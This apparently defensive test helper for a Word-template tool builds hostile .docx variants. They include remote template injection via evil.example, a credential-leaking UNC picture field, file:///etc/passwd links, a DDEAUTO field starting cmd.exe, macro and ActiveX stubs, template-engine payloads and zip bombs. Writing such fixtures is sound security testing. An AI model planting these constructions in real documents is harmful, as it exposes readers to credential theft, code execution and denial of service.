"""Build hostile templates and forms: the default template or a real form, edited as an attacker
would, by rewriting their XML and zip entries directly (not through followupdocs' code).

Run `python tests/hostile.py OUTDIR` to write every variant for a look in Word or LibreOffice;
the tests build them on the fly.
"""

from __future__ import annotations

import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
DEFAULT = ROOT / "templates" / "opfoelgning.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"
EVIL = "https://evil.example/skabelon.dotm"

Parts = dict[str, bytes]


# --- a zip writer that can lie ------------------------------------------------------------------


@dataclass
class Entry:
    """One zip member as written: raw (already compressed) data and what the directory says."""

    name: str
    raw: bytes
    size: int  # the uncompressed size the directory declares
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflated(name: str, data: bytes) -> Entry:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Entry(name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data))


def bomb(name: str, size: int, *, crc: bool = False) -> Entry:
    """Return an entry of `size` spaces (rounded down to a MB) without holding them in memory.

    A block compressed with a full flush starts from an empty dictionary, so the same block
    may be repeated; an empty final block ends the stream. The CRC takes a second per GB to
    compute, so it is left wrong unless asked for: the limits refuse the entry before it.
    """
    block_size = 1 << 20
    one = b" " * block_size
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(one) + packer.flush(zlib.Z_FULL_FLUSH)
    count = size // block_size
    checksum = 0
    for _ in range(count if crc else 0):
        checksum = zlib.crc32(one, checksum)
    return Entry(name, block * count + b"\x03\x00", count * block_size, checksum)


def write_zip(path: Path, entries: list[Entry]) -> Path:
    """Write `entries` as a zip archive exactly as described, lies included."""
    out = bytearray()
    directory = bytearray()
    for entry in entries:
        name = entry.name.encode("utf-8")
        offset = len(out)
        fields = (20, entry.flags, entry.method, 0, 0x21, entry.crc, len(entry.raw), entry.size)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields, len(name), 0) + name + entry.raw
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, len(name), 0, 0, 0, 0, 0, offset
        )
        directory += name
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(out), 0
    )
    path.write_bytes(bytes(out + directory + end))
    return path


def read_parts(path: Path) -> Parts:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_parts(path: Path, parts: Parts) -> Path:
    return write_zip(path, [deflated(name, data) for name, data in parts.items()])


# --- edits of the default template --------------------------------------------------------------


def _replace(parts: Parts, part: str, old: str, new: str) -> None:
    text = parts[part].decode("utf-8")
    assert text.count(old) == 1, f"{old!r} occurs {text.count(old)} times in {part}"
    parts[part] = text.replace(old, new).encode("utf-8")


def _add_rel(parts: Parts, rels: str, rid: str, kind: str, target: str, external: bool) -> None:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    if rels not in parts:
        parts[rels] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
            f'"http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>'
        ).encode()
    else:
        _replace(parts, rels, "</Relationships>", rel + "</Relationships>")


def _add_type(parts: Parts, declaration: str) -> None:
    _replace(parts, "[Content_Types].xml", "</Types>", declaration + "</Types>")


def _after_title(parts: Parts, xml: str) -> None:
    """Put a paragraph of raw WordprocessingML after the title paragraph."""
    _replace(
        parts,
        "word/document.xml",
        "{{ title }}</w:t></w:r></w:p>",
        "{{ title }}</w:t></w:r></w:p>" + xml,
    )


def attached_template(parts: Parts, target: str = EVIL) -> None:
    """Word's template injection: settings attach a template fetched from outside."""
    _replace(
        parts,
        "word/settings.xml",
        "<w:defaultTabStop",
        '<w:attachedTemplate r:id="rId99"/><w:defaultTabStop',
    )
    _add_rel(parts, "word/_rels/settings.xml.rels", "rId99", f"{R}/attachedTemplate", target, True)


def _linked_picture(target: str) -> Callable[[Parts], None]:
    def edit(parts: Parts) -> None:
        _add_rel(parts, RELS, "rId99", f"{R}/image", target, True)
        _after_title(
            parts,
            '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
            '<wp:docPr id="900" name="Linked"/><a:graphic xmlns:a="http://schemas.openxmlformats.'
            'org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="Linked"/><pic:cNvPicPr/>'
            '</pic:nvPicPr><pic:blipFill><a:blip r:link="rId99"/></pic:blipFill><pic:spPr/>'
            "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>",
        )

    return edit


def macros(parts: Parts) -> None:
    """A macro project under the ordinary .docx content type."""
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    _add_rel(
        parts,
        RELS,
        "rId99",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
        False,
    )
    _add_type(
        parts, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )


def activex(parts: Parts) -> None:
    """An ActiveX control in the text, with its part."""
    parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><ax:ocx xmlns:ax="http://schemas.'
        b'microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" '
        b'ax:persistence="persistPropertyBag"/>'
    )
    _add_rel(parts, RELS, "rId99", f"{R}/control", "activeX/activeX1.xml", False)
    _add_type(
        parts,
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
    )
    _after_title(
        parts, '<w:p><w:r><w:object><w:control r:id="rId99" w:name="Knap"/></w:object></w:r></w:p>'
    )


def tag_edit(new: str) -> Callable[[Parts], None]:
    """Replace the title tag by `new`, as Word stores typed text (quotes and < escaped)."""

    def edit(parts: Parts) -> None:
        escaped = new.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        _replace(parts, "word/document.xml", "{{ title }}", escaped)

    return edit


def if_in_cell_endif_in_body(parts: Parts) -> None:
    """{% if %} in a card's cell, its {% endif %} in a body paragraph after the card's table."""
    text = parts["word/document.xml"].decode("utf-8")
    cell = text.index("{{ card.kind }}")
    after_table = text.index("</w:tbl>", cell) + len("</w:tbl>")
    text = (
        text[:cell]
        + "{% if card.kind %}"
        + text[cell:after_table]
        + "<w:p><w:r><w:t>{% endif %}</w:t></w:r></w:p>"
        + text[after_table:]
    )
    parts["word/document.xml"] = text.encode("utf-8")


def entity(parts: Parts) -> None:
    """An entity declared in the part's own DTD and referenced in the text."""
    text = parts["word/document.xml"].decode("utf-8")
    declaration_end = text.index("?>") + 2
    text = (
        text[:declaration_end]
        + '<!DOCTYPE w:document [<!ENTITY x "Ballerup">]>'
        + text[declaration_end:]
    )
    parts["word/document.xml"] = text.replace("{{ title }}", "{{ title }} &x;", 1).encode()


def _field_runs(instruction: str, shown: str) -> str:
    """A complex field as Word stores it: the instruction in pieces over three runs."""
    third = max(1, len(instruction) // 3)
    pieces = [instruction[:third], instruction[third : 2 * third], instruction[2 * third :]]
    escaped = [p.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for p in pieces]
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(
            f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in escaped
        )
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{shown}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def include_picture_unc(parts: Parts) -> None:
    """A web bug that leaks Windows credentials: a picture field fetched from a UNC path."""
    field = _field_runs(' INCLUDEPICTURE "\\\\fileserver\\share\\pixel.png" \\d ', "")
    _after_title(parts, f"<w:p>{field}</w:p>")


def include_text_simple(parts: Parts) -> None:
    """A local file's text pulled in by a simple field when the fields are updated."""
    _after_title(
        parts,
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\Users\\Public\\hemmeligt.txt&quot; ">'
        "<w:r><w:t>tekst</w:t></w:r></w:fldSimple></w:p>",
    )


def ddeauto_in_footer(parts: Parts) -> None:
    """Word's DDE attack, in the footer: DDEAUTO asks to start a program when the file opens."""
    field = _field_runs(' DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc" ', "x")
    _replace(parts, "word/footer1.xml", "</w:ftr>", f"<w:p>{field}</w:p></w:ftr>")


def harmless_fields(parts: Parts) -> None:
    """Fields that fetch nothing: a HYPERLINK (followed on a click), a date and a page number."""
    fields = (
        _field_runs(' HYPERLINK "https://ballerup.dk/budget" ', "Budgettet")
        + '<w:r><w:t xml:space="preserve"> </w:t></w:r>'
        + _field_runs(' DATE \\@ "d. MMMM yyyy" ', "1. januar 2026")
        + '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    )
    _after_title(parts, f"<w:p>{fields}</w:p>")


def _embedded(target: str, kind: str, prog_id: str) -> Callable[[Parts], None]:
    """An object embedded in the text as Word stores it: an icon picture and the object."""

    def edit(parts: Parts) -> None:
        parts[f"word/{target}"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
        parts["word/media/ikon.png"] = _tiny_png()
        _add_rel(parts, RELS, "rId97", f"{R}/image", "media/ikon.png", False)
        _add_rel(parts, RELS, "rId98", f"{R}/{kind}", target, False)
        if b'Extension="png"' not in parts["[Content_Types].xml"]:
            _add_type(parts, '<Default Extension="png" ContentType="image/png"/>')
        _add_type(parts, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
                  'officedocument.oleObject"/>')  # fmt: skip
        if target.endswith(".xlsm"):  # as Word declares an embedded workbook with macros
            _add_type(parts, '<Default Extension="xlsm" ContentType="application/vnd.ms-excel.'
                      'sheet.macroEnabled.12"/>')  # fmt: skip
        if target.endswith(".xlsx"):
            _add_type(parts, '<Default Extension="xlsx" ContentType="application/vnd.openxml'
                      'formats-officedocument.spreadsheetml.sheet"/>')  # fmt: skip
        _after_title(
            parts,
            '<w:p><w:r><w:object w:dxaOrig="1520" w:dyaOrig="960"><v:shape id="_x0000_i1025" '
            'xmlns:v="urn:schemas-microsoft-com:vml" style="width:76pt;height:48pt">'
            '<v:imagedata r:id="rId97" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'o:title=""/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
            f' Type="Embed" ProgID="{prog_id}" ShapeID="_x0000_i1025" DrawAspect="Icon" '
            'ObjectID="_1700000000" r:id="rId98"/></w:object></w:r></w:p>',
        )

    return edit


def _tiny_png() -> bytes:
    """A 1x1 transparent PNG."""

    def chunk(tag: bytes, data: bytes) -> bytes:
        body = tag + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    pixels = zlib.compress(b"\0\0\0\0\0")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def field_named_by_tag(condition: str) -> Callable[[Parts], None]:
    """A field whose name a tag writes: INCLUDEPICTURE when `condition` holds, else PAGE."""

    def edit(parts: Parts) -> None:
        instruction = (
            f'{{% if {condition} %}}INCLUDEPICTURE{{% else %}}PAGE{{% endif %}} "\\\\evil\\x.png"'
        )
        _after_title(parts, f"<w:p>{_field_runs(instruction, '1')}</w:p>")

    return edit


TEMPLATES: dict[str, Callable[[Parts], None]] = {
    "attached-template": attached_template,
    "attached-template-unc": lambda p: attached_template(p, "file://///fileserver/share/x.dotm"),
    "linked-picture-url": _linked_picture("https://evil.example/pixel.png"),
    "linked-picture-file": _linked_picture("file:///etc/passwd"),
    "macros": macros,
    "activex": activex,
    "if-in-cell-endif-in-body": if_in_cell_endif_in_body,
    "safe": tag_edit('{{ "<w:p>"|safe }}'),
    "entity": entity,
    "repeat": tag_edit('{{ "x" * 999999999 }}'),
    "includepicture-unc": include_picture_unc,
    "includetext": include_text_simple,
    "ddeauto-footer": ddeauto_in_footer,
    "harmless-fields": harmless_fields,
    "field-named-by-tag": field_named_by_tag('title == "Hemmelig"'),
    "embedded-ole": _embedded("embeddings/oleObject1.bin", "oleObject", "Package"),
    "embedded-xlsm": _embedded("embeddings/Ark1.xlsm", "package", "Excel.SheetMacroEnabled.12"),
    "embedded-xlsx": _embedded("embeddings/Ark1.xlsx", "package", "Excel.Sheet.12"),
}


def template(path: Path, name: str, source: Path = DEFAULT) -> Path:
    """Write the hostile template `name` (a key of TEMPLATES) to `path`."""
    parts = read_parts(source)
    TEMPLATES[name](parts)
    return write_parts(path, parts)


def with_entry(path: Path, source: Path, part: str, make: Callable[[str, bytes], Entry]) -> Path:
    """Write `source` to `path` with the entry of `part` replaced by `make(part, data)`."""
    parts = read_parts(source)
    entries = [
        make(name, data) if name == part else deflated(name, data) for name, data in parts.items()
    ]
    return write_zip(path, entries)


def encrypted(name: str, data: bytes) -> Entry:
    entry = deflated(name, data)
    entry.flags |= 0x1
    return entry


def unknown_method(name: str, data: bytes) -> Entry:
    entry = deflated(name, data)
    entry.method = 99  # AES, as 7-Zip writes it
    return entry


def bomb_of(size: int) -> Callable[[str, bytes], Entry]:
    return lambda name, data: bomb(name, size)


def lying_bomb_of(size: int) -> Callable[[str, bytes], Entry]:
    """A bomb whose directory says it is as small as the real part."""

    def make(name: str, data: bytes) -> Entry:
        entry = bomb(name, size)
        entry.size = len(data)
        return entry

    return make


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for key in TEMPLATES:
        print(template(folder / f"{key}.docx", key))
    print(with_entry(folder / "styles-bomb.docx", DEFAULT, "word/styles.xml", bomb_of(1 << 30)))
